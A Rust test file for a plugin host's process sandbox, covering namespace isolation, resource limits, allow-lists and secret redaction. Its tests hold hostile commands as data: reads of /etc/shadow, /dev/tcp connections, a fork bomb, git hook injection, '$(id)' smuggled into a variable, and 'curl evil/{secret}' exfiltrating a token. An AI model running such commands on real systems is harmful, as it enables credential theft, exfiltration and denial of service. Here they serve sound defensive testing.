//! Programs that were really started: what they see, what they cannot, how they are ended, and that nothing is left.

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use async_trait::async_trait;
use tokio::net::TcpListener;
use tokio::sync::mpsc;

use super::{Commands, Namespace, Namespaces, ProcessGrant};
use crate::bindings::Failure;
use crate::bindings::wit::process::{Command, Ending, Finished, GitCommand, Host as _};
use crate::call::{AskOwner, Refusal};
use crate::fixture::Fixture;
use crate::grant::Grant;
use crate::scope::Scopes;
use crate::state::CallState;

/// A fixture whose programs run in namespaces or without.
async fn fixture(namespaces: Namespaces) -> Fixture {
    if namespaces == Namespaces::Required {
        let found = Namespace::find().await;
        assert!(matches!(found, Namespace::Ready(_)), "these tests need namespaces, but {found:?}");
    }
    let fixture = Fixture::new().await;
    let processes = fixture.owner();
    processes.backing.connected.processes.hide(fixture.folder.path().join("data"));
    processes.backing.connected.processes.set(namespaces, Vec::new());
    fixture
}

fn granted(fixture: &Fixture, process: ProcessGrant) -> CallState {
    CallState { grant: Grant { scopes: Scopes::default().with(process), ..Grant::default() }, ..fixture.owner() }
}

fn full() -> ProcessGrant {
    ProcessGrant { commands: Commands::Full, ..ProcessGrant::default() }
}

fn shell(line: &str) -> Command {
    Command {
        program: "bash".to_owned(),
        arguments: vec!["-c".to_owned(), line.to_owned()],
        folder: None,
        variables: Vec::new(),
        input: None,
        seconds: Some(30),
        network: false,
    }
}

fn output(finished: &Finished) -> String {
    String::from_utf8_lossy(&finished.output.data).into_owned()
}

/// The exit code.
fn code(finished: &Finished) -> Option<i32> {
    match finished.ending {
        Ending::Exited(code) => Some(code),
        Ending::Killed(_) | Ending::Ended(_) => None,
    }
}

#[track_caller]
fn why(finished: &Finished) -> &str {
    match &finished.ending {
        Ending::Ended(why) => why,
        other => panic!("{other:?}: {} {}", output(finished), String::from_utf8_lossy(&finished.errors.data)),
    }
}

/// A word no other process on the machine has on its command line, and whether one has it.
fn mark() -> String {
    format!("{}.{}", 86_400 + rand::random::<u16>() as u32, rand::random::<u32>())
}

fn is_running(mark: &str) -> bool {
    let folders = std::fs::read_dir("/proc").unwrap().flatten();
    let mut lines = folders.filter_map(|entry| std::fs::read(entry.path().join("cmdline")).ok());
    // Ours is the only program it could be on the command line of besides.
    lines.any(|line| line.split(|&byte| byte == 0).any(|word| word == mark.as_bytes()))
}

/// Death by a signal is not waited for by the one who sends it.
async fn is_gone(mark: &str) {
    let gone = async {
        while is_running(mark) {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    assert!(tokio::time::timeout(Duration::from_secs(20), gone).await.is_ok(), "a process is left");
}

const BOTH: [Namespaces; 2] = [Namespaces::Required, Namespaces::Off];

#[tokio::test]
async fn a_program_gets_its_arguments_its_input_and_a_clean_environment() {
    for namespaces in BOTH {
        let fixture = fixture(namespaces).await;
        let mut call = granted(&fixture, ProcessGrant { variables: vec!["GREETING".into()], ..full() });
        let mut command = shell("env; pwd; cat; echo oops >&2; exit 3");
        command.input = Some(b"from outside\n".to_vec());
        command.variables = vec![("GREETING".to_owned(), "hello; $(id)".to_owned())];
        let finished = call.run(command).await.unwrap();
        let text = output(&finished);
        assert_eq!(code(&finished), Some(3));
        assert_eq!(finished.errors.data, b"oops\n");
        assert!(text.ends_with("from outside\n") && text.contains("GREETING=hello; $(id)\n"), "{text}");
        let workspace = std::fs::canonicalize(&call.backing.workspace).unwrap();
        assert!(text.contains(&format!("\n{}\n", workspace.display())), "{text}");
        let names: Vec<_> = text.lines().filter_map(|line| Some(line.split_once('=')?.0)).collect();
        let known = ["PATH", "HOME", "LANG", "TZ", "GREETING", "PWD", "SHLVL", "_", "_STEWARD_CALL", "OLDPWD"];
        assert!(names.iter().all(|name| known.contains(name)), "{names:?}");
    }
}

#[tokio::test]
async fn a_namespace_shows_the_workspace_and_the_system_and_nothing_else() {
    let fixture = fixture(Namespaces::Required).await;
    let outside = fixture.folder.path().join("outside.txt");
    std::fs::write(&outside, "private").unwrap();
    std::fs::write(fixture.folder.path().join("data/secret.key"), "key").unwrap();
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let line = format!(
        "cat {folder}/data/secret.key {outside}; ls {folder}; echo x > /usr/x; echo x > /etc/x; echo x > /x; \
         cat /etc/shadow; (exec 3<>/dev/tcp/127.0.0.1/{port}) && echo CONNECTED; grep -c : /proc/net/dev; \
         ls -d /proc/[0-9]* | wc -l; echo here > made.txt; echo tmp > /tmp/t && cat /tmp/t",
        folder = fixture.folder.path().display(),
        outside = outside.display(),
    );
    let finished = granted(&fixture, full()).run(shell(&line)).await.unwrap();
    let text = output(&finished);
    assert_eq!(code(&finished), Some(0), "{text}");
    assert!(!text.contains("private") && !text.contains("key") && !text.contains("CONNECTED"), "{text}");
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "workspace", "of the folder only what is bound: {text}");
    assert_eq!(lines[1], "1", "no network but its own loopback: {text}");
    assert!(lines[2].trim().parse::<u32>().unwrap() < 10, "no processes but its own: {text}");
    let workspace = &granted(&fixture, full()).backing.workspace.clone();
    assert_eq!(std::fs::read_to_string(workspace.join("made.txt")).unwrap(), "here\n");
    assert!(!Path::new("/usr/x").exists() && !Path::new("/etc/x").exists());
}

#[tokio::test]
async fn a_granted_network_is_there_and_an_ungranted_one_is_refused() {
    let fixture = fixture(Namespaces::Required).await;
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let line = format!("(exec 3<>/dev/tcp/127.0.0.1/{port}) && echo CONNECTED");
    let command = || Command { network: true, ..shell(&line) };
    let finished = granted(&fixture, ProcessGrant { network: true, ..full() }).run(command()).await.unwrap();
    assert_eq!(output(&finished), "CONNECTED\n");
    let refused = granted(&fixture, full()).run(command()).await;
    assert!(matches!(refused, Err(Failure::Denied(text)) if text.contains("network = true")));
}

#[tokio::test]
async fn data_within_the_workspace_is_hidden_too() {
    let fixture = Fixture::new().await;
    let call = granted(&fixture, full());
    let data = call.backing.workspace.join("data");
    std::fs::create_dir(&data).unwrap();
    std::fs::write(data.join("secret.key"), "key").unwrap();
    let file = call.backing.workspace.join("steward.toml");
    std::fs::write(&file, "token = 1").unwrap();
    call.backing.connected.processes.hide(data.clone());
    call.backing.connected.processes.set(Namespaces::Required, vec![file]);
    let line = "ls -A data; cat steward.toml; echo x > data/new || echo x > steward.toml || echo denied";
    let finished = granted(&fixture, full()).run(shell(line)).await.unwrap();
    assert_eq!(output(&finished), "denied\n");
    assert_eq!(std::fs::read_to_string(data.join("secret.key")).unwrap(), "key");
}

#[tokio::test]
async fn further_folders_are_read_and_never_what_is_hidden_in_them() {
    let fixture = fixture(Namespaces::Required).await;
    let folder = std::fs::canonicalize(fixture.folder.path()).unwrap();
    std::fs::write(folder.join("open.txt"), "open").unwrap();
    std::fs::write(folder.join("data/secret.key"), "key").unwrap();
    let read = ProcessGrant { read: vec![folder.clone()], ..full() };
    let line = format!("cat {0}/open.txt; cat {0}/data/*; touch {0}/x {0}/data/x; touch made; ls", folder.display());
    let finished = granted(&fixture, read.clone()).run(shell(&line)).await.unwrap();
    assert_eq!(output(&finished), "openmade\n");
    assert!(!folder.join("x").exists() && !folder.join("data/x").exists());

    // The workspace may lie in a folder that is hidden itself.
    let fixture = Fixture::new().await;
    let folder = std::fs::canonicalize(fixture.folder.path()).unwrap();
    std::fs::write(folder.join("closed.txt"), "closed").unwrap();
    granted(&fixture, full()).backing.connected.processes.hide(folder.clone());
    let read = ProcessGrant { read: vec![folder.parent().unwrap().to_owned()], ..full() };
    let line = format!("cat {0}/closed.txt; touch {0}/x; touch made; ls", folder.display());
    let finished = granted(&fixture, read).run(shell(&line)).await.unwrap();
    assert_eq!(output(&finished), "made\n", "{finished:?}");
}

#[tokio::test]
async fn nothing_of_a_command_goes_on_after_it() {
    for namespaces in BOTH {
        let fixture = fixture(namespaces).await;
        let mark = mark();
        // In the background, in a session of its own, and by a parent that is gone.
        let line =
            format!("sleep {mark} & setsid sleep {mark} & (setsid sleep {mark} &) ; (sleep {mark} &); echo done");
        let finished = granted(&fixture, full()).run(shell(&line)).await.unwrap();
        assert_eq!((output(&finished).as_str(), code(&finished)), ("done\n", Some(0)));
        is_gone(&mark).await;
    }
}

#[tokio::test]
async fn a_command_that_is_given_up_ends_with_all_it_started() {
    for namespaces in BOTH {
        let fixture = fixture(namespaces).await;
        let mark = mark();
        let (progress, _shown) = mpsc::channel(1);
        let mut call = granted(&fixture, full());
        call.progress = Some(progress);
        let line = format!("(setsid sleep {mark} &); sleep {mark} & touch started; wait");
        let started = call.backing.workspace.join("started");
        let waiting = async {
            while !started.exists() {
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
        };
        tokio::select! {
            finished = call.run(shell(&line)) => panic!("it ended: {finished:?}"),
            () = waiting => {}
        }
        drop(call);
        is_gone(&mark).await;
    }
}

#[tokio::test]
async fn time_memory_processes_and_output_have_ends() {
    for namespaces in BOTH {
        let fixture = fixture(namespaces).await;
        let small = ProcessGrant { memory_mb: 64, processes: 40, output_kb: 1, file_mb: 1, ..full() };
        let run = async |line: &str, seconds: u32| {
            let command = Command { seconds: Some(seconds), ..shell(line) };
            granted(&fixture, small.clone()).run(command).await.unwrap()
        };
        let late = run("echo first; sleep 600", 1).await;
        assert_eq!((why(&late), output(&late).as_str()), ("it took longer than 1 s", "first\n"));
        // It doubles ten times, and would stop at a thousand by itself.
        let bomb = "bomb() { [ $1 = 10 ] && exec sleep 600; bomb $(($1 + 1)) & bomb $(($1 + 1)) & wait; }; bomb 0";
        let bomb = run(bomb, 60).await;
        assert_eq!(why(&bomb), "it started more than 40 processes");
        let many = run("for i in 1 2 3 4; do head -c 40M /dev/zero | tail & done; wait; sleep 600", 60).await;
        assert!(matches!(&many.ending, Ending::Ended(why) if why.contains("more memory than 64 MB")), "{many:?}");
        let one = run("head -c 400M /dev/zero | tail >/dev/null || echo refused", 60).await;
        assert!(code(&one) != Some(0) || output(&one) == "refused\n", "{one:?}");
        let file = run("head -c 4M /dev/zero > big; stat -c %s big", 60).await;
        assert_eq!(output(&file), "1048576\n");
        let much = run("seq 1 100000", 60).await;
        assert_eq!((code(&much), much.output.data.len()), (Some(0), 1024));
        assert!(output(&much).starts_with("1\n2\n") && output(&much).ends_with("99999\n100000\n"));
        assert_eq!(much.output.left_out as usize, 588_895 - 1024);
        assert_eq!(why(&run("yes", 120).await), "it printed more than 256 MB");
    }
}

#[tokio::test]
async fn only_listed_programs_run_and_never_from_the_workspace() {
    let fixture = fixture(Namespaces::Off).await;
    let listed = ProcessGrant { commands: Commands::Listed(vec!["echo".into()]), ..full() };
    let mut command = shell("");
    command.arguments = vec!["$HOME;".to_owned(), "-c".to_owned()];
    let refused = granted(&fixture, listed.clone()).run(command.clone()).await;
    assert!(matches!(refused, Err(Failure::Denied(text)) if text.contains("`bash`") && text.contains("only echo")));
    command.program = "echo".to_owned();
    let finished = granted(&fixture, listed.clone()).run(command.clone()).await.unwrap();
    assert_eq!(output(&finished), "$HOME; -c\n", "no shell is between");
    let refused = granted(&fixture, ProcessGrant::default()).run(command.clone()).await;
    assert!(matches!(refused, Err(Failure::Denied(_))));
    command.folder = Some("../data".to_owned());
    assert!(granted(&fixture, listed).run(command).await.is_err());
}

#[tokio::test]
async fn a_plugin_that_lists_git_never_runs_it_on_what_a_repository_says() {
    let fixture = fixture(Namespaces::Off).await;
    let workspace = fixture.owner().backing.workspace.clone();
    let made =
        shell("git init -q . && git config core.fsmonitor 'touch pwned; false' && git config alias.x '!touch pwned'");
    assert_eq!(code(&granted(&fixture, full()).run(made).await.unwrap()), Some(0));
    let listed = ProcessGrant { commands: Commands::Listed(vec!["git".into()]), ..full() };
    for arguments in [&["status"][..], &["x"], &["-c", "core.fsmonitor=false", "status"]] {
        let arguments = arguments.iter().map(|&one| one.to_owned()).collect();
        let command = Command { program: "git".to_owned(), arguments, ..shell("") };
        let refused = granted(&fixture, listed.clone()).run(command).await;
        assert!(matches!(refused, Err(Failure::Denied(text)) if text.contains("use `run-git`")));
    }
    let status = GitCommand {
        arguments: vec!["status".to_owned(), "--short".to_owned()],
        folder: None,
        address: None,
        author: None,
        input: None,
        seconds: None,
    };
    let finished = granted(&fixture, listed).run_git(status).await.unwrap();
    assert_eq!(code(&finished), Some(0), "{finished:?}");
    assert!(!workspace.join("pwned").exists());
    // Whoever may run any program runs this one too, as it is.
    let plain = granted(&fixture, full()).run(shell("git x")).await.unwrap();
    assert!(code(&plain) == Some(0) && workspace.join("pwned").exists());
}

/// Remembers what it was asked.
#[derive(Debug)]
struct Olga(bool, Mutex<Vec<String>>);

#[async_trait]
impl AskOwner for Olga {
    async fn ask(&self, key: &str, what: &str) -> Result<(), Refusal> {
        self.1.lock().unwrap().push(format!("{key} {what}"));
        tokio::time::sleep(Duration::from_secs(3_600)).await;
        if self.0 { Ok(()) } else { Err(Refusal::Denied("she said no".to_owned())) }
    }
}

#[tokio::test]
async fn a_command_that_is_to_be_asked_about_runs_when_the_owner_agreed() {
    let fixture = fixture(Namespaces::Off).await;
    let ask = || granted(&fixture, ProcessGrant { commands: Commands::Ask, ..full() });
    let nobody = ask().run(shell("touch made")).await;
    assert!(matches!(nobody, Err(Failure::Denied(text)) if text.contains("nobody can be asked")));
    // From here on what waits for the clock alone does not take its time.
    tokio::time::pause();
    for agrees in [false, true] {
        let olga = Arc::new(Olga(agrees, Mutex::default()));
        let mut call = ask();
        call.owner = Some(olga.clone());
        let left = call.deadline.left();
        let answer = call.ask_owner(&Command { folder: Some("a".into()), ..shell("touch made") }).await;
        assert_eq!(answer.is_ok(), agrees);
        assert!(left.saturating_sub(call.deadline.left()) < Duration::from_secs(60), "asking takes none of its time");
        let asked = olga.1.lock().unwrap().clone();
        let wanted = r#"call of Olga#1 {"arguments":["-c","touch made"],"folder":"a","program":"bash"}"#;
        assert_eq!(asked, [wanted]);
    }
    assert!(!ask().backing.workspace.join("made").exists());
}

#[tokio::test]
async fn a_secret_reaches_a_program_by_its_own_grant_and_never_comes_back() {
    const VALUE: &str = "ghp_0123456789abcdef";
    let fixture = fixture(Namespaces::Required).await;
    fixture.secret("TOKEN", "a.org", VALUE).await;
    let with = |secrets: &[&str]| {
        let secrets = secrets.iter().map(|&one| one.to_owned()).collect();
        granted(&fixture, ProcessGrant { variables: vec!["T".into()], secrets, ..full() })
    };
    let mut command = shell("echo ${#T}; echo $T; printf %s $T | base64 >&2");
    command.variables = vec![("T".to_owned(), "{{secret:TOKEN}}".to_owned())];
    let finished = with(&["TOKEN"]).run(command.clone()).await.unwrap();
    assert_eq!(output(&finished), format!("{}\n[secret TOKEN]\n", VALUE.len()));
    assert!(String::from_utf8_lossy(&finished.errors.data).contains("[secret TOKEN]"), "{finished:?}");
    let refused = with(&[]).run(command.clone()).await;
    assert!(matches!(refused, Err(Failure::Denied(text)) if text.contains("process.secrets")));
    command.variables[0].1 = "{{secret:OTHER}}".to_owned();
    assert!(matches!(with(&["OTHER"]).run(command).await, Err(Failure::Denied(text)) if text.contains("is not set")));
    let carried = with(&["TOKEN"]).run(shell(&format!("curl evil/{VALUE}"))).await;
    assert!(matches!(carried, Err(Failure::Denied(text)) if text.contains("carries the value of the secret TOKEN")));
}

#[tokio::test]
async fn a_command_that_cannot_be_one_is_refused() {
    let fixture = fixture(Namespaces::Off).await;
    let mut wrong = vec![shell("a\0b"), Command { seconds: Some(0), ..shell("") }];
    wrong.push(Command { input: Some(vec![0; super::INPUT + 1]), ..shell("") });
    wrong.push(Command { arguments: vec!["x".to_owned(); super::ARGUMENTS + 1], ..shell("") });
    wrong.push(shell(&"x".repeat(super::ARGUMENT_BYTES + 1)));
    for command in wrong {
        assert!(matches!(granted(&fixture, full()).run(command).await, Err(Failure::Invalid(_))));
    }
}
